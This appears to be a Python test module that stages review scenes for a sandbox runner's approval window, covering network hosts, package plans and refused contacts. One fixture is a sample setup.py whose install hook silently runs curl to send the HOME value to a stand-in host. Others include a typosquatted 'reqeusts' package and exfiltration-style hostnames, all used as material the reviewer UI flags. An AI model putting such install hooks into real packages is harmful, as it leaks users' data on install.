"""Scenes with network and packages, for pictures and tests of the window."""

from __future__ import annotations

import hashlib
import time
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from runner.approval.private_addresses import PrivateAddress
from runner.model.assessment import WHOLE, Capability, Level, Touch
from runner.model.events import GrantsChanged, HostContacted, RunMeasured, SandboxesChanged
from runner.model.kept_sandbox import Kept
from runner.model.network import NOT_LISTED, Contact, Destination
from runner.model.plan import BuildFile, OwnProgram, Plan, PlannedPackage, ProgramKind, Registry
from runner.model.request import Isolation, Language, NetworkMode, Tool
from runner.model.result import Outcome, Usage
from runner.model.translation import translated
from runner.policy.host_grants import for_host
from runner.sandbox.output import Stream, Transcript
from tests.audit import story
from tests.gui import feed, record
from tests.gui.scenes.shots import settle

if TYPE_CHECKING:
    from collections.abc import Callable

    from runner.model.request import Request
    from tests.gui.scenes.shots import Scene

DAY = 86_400.0
KEPT = "3f9c01d2ab77"
FETCH = """import json
import requests

rows = json.load(open("rows.json"))
answer = requests.get("https://api.example.com/v1/rates", timeout=10)
for row in rows:
    row["euro"] = row["amount"] * answer.json()["EUR"]
requests.post("https://stats.example.net/upload", json=rows)
print(len(rows), "rows")
"""


def package(name: str, version: str, days: float, **others: Any) -> PlannedPackage:
    """One package, released `days` ago."""
    file = others.pop("file", f"{name}-{version}-py3-none-any.whl")
    now = time.time()
    return PlannedPackage(
        name,
        version,
        file,
        hashlib.sha256(file.encode()).hexdigest(),
        others.pop("size", 64_000),
        others.pop("url", f"https://files.packages.example/{name[:1]}/{name}/{file}"),
        released_at=now - days * DAY if days else 0.0,
        first_released_at=now - others.pop("since", 4000) * DAY,
        versions=others.pop("versions", 40),
        **others,
    )


def plan(odd: bool = False) -> Plan:
    """What `requests` needs; with `odd` there is something wrong with most of it."""
    packages = [
        package("certifi", "2025.10.5", 6.2, wanted_by=("requests",), size=163_000, summary="Mozilla's CA bundle."),
        package("charset-normalizer", "3.4.4", 40, wanted_by=("requests",), size=53_000),
        package("idna", "3.11", 12, wanted_by=("requests",)),
        package("requests", "2.32.3", 540, size=65_000, versions=152, summary="Python HTTP for Humans."),
        package("urllib3", "2.5.0", 157, wanted_by=("requests",), size=129_000),
    ]
    if odd:
        packages[1] = replace(packages[1], yanked="Wrong metadata; use 3.4.5 instead.")
        packages[2] = package("reqeusts", "0.0.1", 0.2, versions=1, since=0.2, mistaken_for="requests", size=3_200)
        packages[4] = replace(packages[4], scripts=("preinstall", "postinstall"), versions=0, released_at=0.0)
    return Plan(Registry.PYPI, ("files.packages.example",), tuple(packages), "Python 3.13, x86_64")


def install(**others: Any) -> Request:
    """A request that installs packages and runs no code."""
    return feed.request("", packages=("requests",), plan=others.pop("plan", plan()), sandbox=KEPT, **others)


def networked(**others: Any) -> Request:
    """A request for listed hosts of every kind, one of them by a grant, in a kept sandbox."""
    others.setdefault("network", NetworkMode.DOMAINS)
    others.setdefault(
        "domains",
        ("*.cdn.example.org", "10.1.2.3:8080", "api.example.com", "intranet:80", "stats.example.net"),
    )
    others.setdefault("granted", ("stats.example.net",))
    others.setdefault("title", "Convert the rows")
    return feed.request(FETCH, **others)


def keep(**others: Any) -> Kept:
    """The kept sandbox of these requests."""
    return Kept(KEPT, "claude-code", Language.PYTHON, Isolation.GVISOR, time.time(), uses=5, **others)


def review_hosts(scene: Scene) -> None:
    scene.hear((SandboxesChanged((keep(),)),))
    one = networked(sandbox=KEPT, context='{"month": 4, "region": "north"}', stdin="a\n" * 400)
    touch = Touch(hosts=("api.example.com", "stats.example.net"), files=("rows.json",))
    found = feed.finding(9, "Sends data to stats.example.net.", Level.CRITICAL)
    scene.hear(feed.asked(one, feed.assessment(Level.CRITICAL, found, touch=touch)))


def review_registries(scene: Scene) -> None:
    hosts = ("files.packages.example", "registry.packages.example")
    one = networked(network=NetworkMode.REGISTRIES, domains=hosts, granted=())
    scene.hear(feed.asked(one, feed.assessment(Level.CRITICAL)))


def review_plan(scene: Scene, odd: bool = False) -> None:
    scene.hear(feed.asked(install(plan=plan(odd)), feed.assessment(Level.HIGH)))


SETUP = """from setuptools import setup
from setuptools.command.install import install
import os, subprocess


class Report(install):
    def run(self):
        subprocess.run(["curl", "-d", os.environ.get("HOME", ""), "https://collect.example.net/"])
        super().run()


setup(name="docopt", version="0.6.2", py_modules=["docopt"], cmdclass={"install": Report})
"""


def built() -> Plan:
    """One package that has to be built, beside others that are ready."""
    tool = BuildFile("setuptools", "80.9.0", "setuptools-80.9.0-py3-none-any.whl", "5c" * 32, 1_250_000, "")
    line = "setuptools.build_meta:__legacy__, of a package that it is built with; needs setuptools>=40.8.0"
    programs = (OwnProgram("build", line), OwnProgram("setup.py", SETUP, ProgramKind.PYTHON))
    one = package(
        "docopt", "0.6.2", 4200, file="docopt-0.6.2.tar.gz", size=25_900, versions=11,
        summary="Pythonic argument parser, that will make you smile", programs=programs, build_files=(tool,),
    )  # fmt: skip
    return replace(plan(), packages=(one, *plan().packages))


def scripted() -> Plan:
    """Packages of npm, two of which have install scripts."""
    script = OwnProgram("postinstall", "node install.js", ProgramKind.SHELL)
    names = (("esbuild", (script,)), ("@esbuild/linux-x64", ()), ("node-gyp-build", ()), ("prebuild-install", ()))
    found = tuple(
        package(name, "0.28.2", 30, place=name, programs=programs, scripts=tuple(one.name for one in programs),
                wanted_by=() if name == "esbuild" else ("esbuild",), file=f"{name.rpartition('/')[2]}-0.28.2.tgz")
        for name, programs in names
    )  # fmt: skip
    return Plan(Registry.NPM, ("registry.packages.example",), found, "Node.js 20.19, linux x64")


def review_built(scene: Scene, plan: Plan) -> None:
    (one,) = plan.built
    names = ", ".join(program.name for program in one.programs)
    said = (
        f"It runs programs of its own while it is installed: {names}.",
        f"In {one.title}, {one.programs[-1].name}: Starts other programs.",
    )
    found = tuple(
        replace(feed.finding(1, text, Level.CRITICAL, Capability.PACKAGES), span=WHOLE, evidence=one.title)
        for text in said
    )
    scene.hear(feed.asked(install(plan=plan), feed.assessment(Level.CRITICAL, *found)))


def review_plan_long(scene: Scene) -> None:
    many = tuple(package(f"library-{number:03}", f"1.{number}", 30 + number) for number in range(120))
    scene.hear(feed.asked(install(plan=replace(plan(), packages=many)), feed.assessment(Level.HIGH)))


def review_plan_with_code(scene: Scene) -> None:
    one = feed.request(FETCH, packages=("requests",), plan=plan(True), title="Convert the rows")
    scene.hear(feed.asked(one, feed.assessment(Level.HIGH)))
    tabs = scene.window.deciding.review.page.reading.tabs
    settle(0.3)
    tabs.setCurrentIndex(tabs.count() - 1)


SCENES: dict[str, Callable[[Scene], None]] = {
    "network-review": review_hosts,
    "network-registries": review_registries,
    "packages-review": review_plan,
    "packages-odd": lambda scene: review_plan(scene, odd=True),
    "packages-long": review_plan_long,
    "packages-built": lambda scene: review_built(scene, built()),
    "packages-scripts": lambda scene: review_built(scene, scripted()),
    "packages-code": review_plan_with_code,
}


def contacted(one: Request, *contacts: Contact) -> tuple[HostContacted, ...]:
    return tuple(HostContacted(one.id, contact) for contact in contacts)


def refused(host: str, times: int = 1, port: int = 443, **others: Any) -> Contact:
    return Contact(host, port, allowed=False, why=NOT_LISTED, times=times, **others)


REACHED = Contact("api.example.com", 443, allowed=True, sent=4_100, received=1_250_000)


def run(scene: Scene, *contacts: Contact, seconds: int = 40, **others: Any) -> Request:
    """A networked run that is active."""
    one = networked(domains=("api.example.com", "*.cdn.example.org"), granted=(), **others)
    transcript = Transcript(1 << 20)
    for number in range(seconds):
        transcript.append(Stream.OUT, f"row {number} converted\n".encode())
    scene.bridge.transcripts[one.id] = transcript
    scene.hear(feed.asked(one), feed.decided(one), feed.started(one))
    for number in range(seconds):
        moved = 31_000 * number + 200_000 * (number // 7)
        use = Usage(number / 4, 20 + 3 * (number % 5), (60 + number) << 20, 1 << 20, 2, 100 * number, moved, 1)
        scene.hear((RunMeasured(one.id, use),))
    scene.hear(contacted(one, *contacts))
    scene.window.show_page("Running")
    return one


def run_refused(scene: Scene) -> None:
    run(scene, REACHED, refused("blocked.example", 3))


def run_many(scene: Scene) -> None:
    names = (f"{number:032x}.exfiltration-by-names.example" for number in range(14))
    run(scene, REACHED, refused("blocked.example", 3), *(refused(name) for name in names))


def run_build(scene: Scene) -> None:
    """A build that asks for a host."""
    one = replace(install(plan=built()), id="building", tool=Tool.CODE_INSTALL_PACKAGE, language=None)
    scene.hear(feed.asked(one, feed.assessment(Level.CRITICAL)), feed.decided(one), feed.started(one))
    scene.hear(contacted(one, refused("files.example.net")))
    scene.window.show_page("Running")


def run_nothing_refused(scene: Scene) -> None:
    run(scene, REACHED)


def run_said(scene: Scene) -> None:
    one = run(scene, REACHED, refused("blocked.example", 3), refused("wiki.intranet.example", 2))
    panel: Any = scene.window.page("Running")
    settle(0.2)
    card = scene.cases.card(one.id)
    assert card is not None
    blocked, wiki = (card.contacts[name, 443, False] for name in ("blocked.example", "wiki.intranet.example"))
    panel.hosts.decisions.allow(card, blocked)
    scene.bridge.give("allow_host", "")
    panel.hosts.decisions.allow(card, wiki)
    scene.bridge.give("allow_host", "Everything is denied now: Lockdown is on.")


def run_private(scene: Scene) -> None:
    one = run(scene, REACHED, refused("wiki.intranet.example", 2))
    panel: Any = scene.window.page("Running")
    settle(0.2)
    card = scene.cases.card(one.id)
    assert card is not None
    wiki = card.contacts["wiki.intranet.example", 443, False]
    panel.hosts.decisions.allow(card, wiki)
    scene.bridge.fail("allow_host", PrivateAddress(Destination("wiki.intranet.example"), "10.20.0.7"))


def run_always(scene: Scene) -> None:
    one = run(scene, REACHED, refused("blocked.example", 3))
    panel: Any = scene.window.page("Running")
    settle(0.2)
    card = scene.cases.card(one.id)
    assert card is not None
    panel.hosts.decisions.always(card, card.contacts["blocked.example", 443, False])


def run_hosts(scene: Scene) -> None:
    run_many(scene)
    panel: Any = scene.window.page("Running")
    settle(0.2)
    panel.hosts.strip.more.click()
    panel.hosts.tab.view.view.setCurrentIndex(panel.hosts.tab.view.model.index(1, 0))


def run_over(scene: Scene) -> None:
    one = run(scene, REACHED, refused("blocked.example", 3))
    capped = Contact("api.example.com", 443, allowed=None, why="is not reached any more: 2 GB were received", times=9)
    ended = replace(
        feed.result(), contacts=(refused("blocked.example", 3), capped, REACHED), contacts_left_out=12, curve=CURVE
    )
    scene.hear(feed.finished(one, ended))


def run_not_set_up(scene: Scene) -> None:
    one = run(scene, seconds=0)
    error = "The network of this run could not be set up: it does not answer. Run the code without network."
    scene.hear(feed.finished(one, feed.result(Outcome.ENGINE_LOST, error=error, stdout="")))


def history(scene: Scene, tab: str = "Network") -> None:
    """A record with network and packages."""
    from tests.gui.gallery import history_of
    from tests.gui.scenes.shots import until

    panel = history_of(scene, "network", lambda places: record.ledger(places.ledger, recorded()))
    until(lambda: panel.list.model.rowCount() == 1)
    panel.list.view.setCurrentIndex(panel.list.model.index(0, 0))
    until(lambda: panel.detail.record is not None)
    tabs = panel.detail.tabs
    tabs.setCurrentIndex(next(n for n in range(tabs.count()) if translated(tab) in tabs.tabText(n)))


def recorded() -> list[Any]:
    """What the ledger says of a run with network and packages."""
    one = replace(networked(granted=()), id="n1", plan=plan(odd=True), packages=("requests",))
    ended = replace(
        feed.result(stdout="18 rows\n"),
        contacts=(refused("blocked.example", 3), REACHED),
        contacts_left_out=12,
        curve=CURVE,
    )
    told = story.approved(one, ended)
    allowed = ("host-allowed", "n1", {"host": "blocked.example", "port": 443, "address": "", "by": "person"})
    return [*told[:-2], allowed, *told[-2:]]


def rules(scene: Scene) -> None:
    """Grants for a host beside another grant."""
    from tests.gui.scenes.shots import remembered

    remembered(scene)
    title, now = "Convert the rows", time.time()
    hosts = (Destination("api.example.com"), Destination("wiki.example", 8443))
    grants = [
        for_host("claude-code", host, title, now, private="10.20.0.7" if number == 1 else "", seconds=8 * 3600.0)
        for number, host in enumerate(hosts)
    ]
    scene.bridge.kept = (*grants, *scene.bridge.kept)
    scene.hear((GrantsChanged(),))
    page: Any = scene.window.page("Rules")
    settle(0.2)
    page.rules.hide()


CURVE = tuple(
    Usage(n / 4, 25.0, (60 + n) << 20, 1 << 20, 2, 100 * n, 31_000 * n + 200_000 * (n // 7), int(n < 30))
    for n in range(40)
)
SCENES |= {
    "network-run-refused": run_refused,
    "packages-building": run_build,
    "network-run-many": run_many,
    "network-run-nothing": run_nothing_refused,
    "network-run-said": run_said,
    "network-run-private": run_private,
    "network-run-always": run_always,
    "network-run-hosts": run_hosts,
    "network-run-over": run_over,
    "network-run-not-set-up": run_not_set_up,
    "network-history": history,
    "packages-history": lambda scene: history(scene, "Packages"),
    "network-rules": rules,
}
